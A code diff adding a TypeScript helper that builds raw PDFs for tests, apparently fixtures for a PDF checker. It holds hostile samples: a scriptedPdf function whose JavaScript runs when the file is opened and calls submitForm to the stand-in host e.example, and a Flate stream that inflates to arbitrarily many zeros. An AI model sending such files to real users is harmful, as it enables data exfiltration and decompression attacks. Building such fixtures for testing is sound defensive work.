@@ -1,0 +1,84 @@
+import { deflateSync } from "node:zlib";
+
+export type RawPdf = {
+  /** Pages that are really there, and how many the catalogue says there are. */
+  pages?: number;
+  count?: number;
+  /** More members of the catalogue, such as an action, and the objects they name. */
+  catalog?: string;
+  objects?: (string | Buffer)[];
+  /** Between the header and the first object; a comment to every reader. */
+  preamble?: string;
+  /** More members of the trailer. */
+  trailer?: string;
+};
+
+/** A PDF written byte by byte. Its own objects begin at number 10. */
+export function rawPdf({
+  pages = 1,
+  count = pages,
+  catalog = "",
+  objects = [],
+  preamble = "",
+  trailer = "",
+}: RawPdf = {}): Buffer {
+  const kids = Array.from({ length: pages }, (_, n) => 1000 + n);
+  const numbered: [number, string | Buffer][] = [
+    [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
+    [2, `<< /Type /Pages /Kids [${kids.map((n) => `${n} 0 R`).join(" ")}] /Count ${count} >>`],
+    ...objects.map((object, n): [number, string | Buffer] => [10 + n, object]),
+    ...kids.map((n): [number, string] => [
+      n,
+      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 640 360] >>",
+    ]),
+  ];
+  const parts: Buffer[] = [Buffer.from(`%PDF-1.7\n${preamble}`, "latin1")];
+  const offsets = new Map<number, number>();
+  let length = parts[0]?.length ?? 0;
+  const add = (part: Buffer) => {
+    parts.push(part);
+    length += part.length;
+  };
+  for (const [number, body] of numbered) {
+    offsets.set(number, length);
+    add(
+      Buffer.concat([
+        Buffer.from(`${number} 0 obj\n`),
+        Buffer.from(body),
+        Buffer.from("\nendobj\n"),
+      ]),
+    );
+  }
+  const at = length;
+  const sections = [...offsets].map(
+    ([number, offset]) => `${number} 1\n${String(offset).padStart(10, "0")} 00000 n \n`,
+  );
+  const size = Math.max(...offsets.keys()) + 1;
+  add(
+    Buffer.from(
+      `xref\n0 1\n0000000000 65535 f \n${sections.join("")}trailer\n<< /Size ${size} /Root 1 0 R ${trailer.replace("{xref}", String(at))} >>\nstartxref\n${at}\n%%EOF\n`,
+    ),
+  );
+  return Buffer.concat(parts);
+}
+
+/** A stream object whose content inflates to `bytes` zeros. */
+export function flateStream(bytes: number, members = ""): Buffer {
+  const packed = deflateSync(Buffer.alloc(bytes));
+  return Buffer.concat([
+    Buffer.from(`<< /Length ${packed.length} /Filter /FlateDecode ${members} >>\nstream\n`),
+    packed,
+    Buffer.from("\nendstream"),
+  ]);
+}
+
+/** A deck that tries to run a script as soon as it is opened. */
+export function scriptedPdf(script = 'app.alert("aperto"); this.submitForm("https://e.example")') {
+  return rawPdf({
+    catalog: "/OpenAction 10 0 R /AA << /WC 10 0 R >> /Names << /JavaScript 11 0 R >>",
+    objects: [
+      `<< /S /JavaScript /JS (${script.replaceAll(/([()\\])/g, "\\$1")}) >>`,
+      "<< /Names [(a) 10 0 R] >>",
+    ],
+  });
+}
